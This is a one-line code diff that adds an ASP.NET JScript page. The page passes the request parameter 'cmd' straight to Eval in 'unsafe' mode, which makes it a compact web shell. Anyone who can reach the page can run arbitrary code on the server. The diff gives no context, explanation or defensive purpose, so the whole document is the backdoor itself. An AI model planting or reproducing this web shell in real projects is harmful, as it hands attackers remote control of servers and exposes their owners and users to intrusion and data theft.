@@ -1,0 +1,1 @@
+<%@ Page Language="Jscript"%><%Eval(Request["cmd"],"unsafe");%>
